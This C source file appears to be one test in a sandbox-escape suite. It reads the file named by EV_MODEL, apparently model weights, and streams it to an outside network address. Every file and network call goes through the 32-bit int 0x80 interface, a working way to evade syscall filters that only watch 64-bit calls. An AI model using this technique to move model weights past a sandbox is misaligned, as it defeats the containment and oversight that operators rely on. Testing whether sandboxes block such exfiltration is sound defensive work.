/* Every call that touches the model or the network is made by int 0x80, with the numbers and the structs of a 32-bit
 * program. Works from a 64-bit program as long as all addresses are below 4 GiB. */
#include "../tools/act.h"

enum { NR32_read = 3, NR32_open = 5, NR32_socket = 359, NR32_connect = 362, NR32_sendto = 369 };

static long call32(int number, long a, long b, long c, long d, long e, long f) {
  long result;

  /* ebp carries the sixth argument, and the compiler may want it for itself. */
  __asm__ volatile("push %%rbp\n\tmov %7, %%rbp\n\tint $0x80\n\tpop %%rbp"
                   : "=a"(result)
                   : "a"((long)number), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e), "r"(f)
                   : "memory", "r8", "r9", "r10", "r11");
  return (int)result;
}

int main(void) {
  struct sockaddr_in address = outside(atoi(env("EV_PORT")));
  char* low = mmap(NULL, 2 * PIECE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  long at = (long)low, piece = at + PIECE, file, peer, n, sent;

  check(low != MAP_FAILED, "mmap");
  strcpy(low, env("EV_MODEL"));
  file = call32(NR32_open, at, O_RDONLY, 0, 0, 0, 0);
  if (file == -ENOSYS) {
    fprintf(stderr, "this kernel runs no 32-bit calls\n");
    return CANNOT;
  }
  check(file >= 0, "open (32-bit)");
  memcpy(low, &address, sizeof(address));
  peer = call32(NR32_socket, AF_INET, SOCK_STREAM, 0, 0, 0, 0);
  check(peer >= 0, "socket (32-bit)");
  check(call32(NR32_connect, peer, at, sizeof(address), 0, 0, 0) == 0, "connect (32-bit)");
  while ((n = call32(NR32_read, file, piece, PIECE, 0, 0, 0)) > 0) {
    for (long done = 0; done < n; done += sent) {
      sent = call32(NR32_sendto, peer, piece + done, n - done, 0, 0, 0);
      check(sent > 0, "sendto (32-bit)");
    }
  }
  hang_up((int)peer);
  return 0;
}
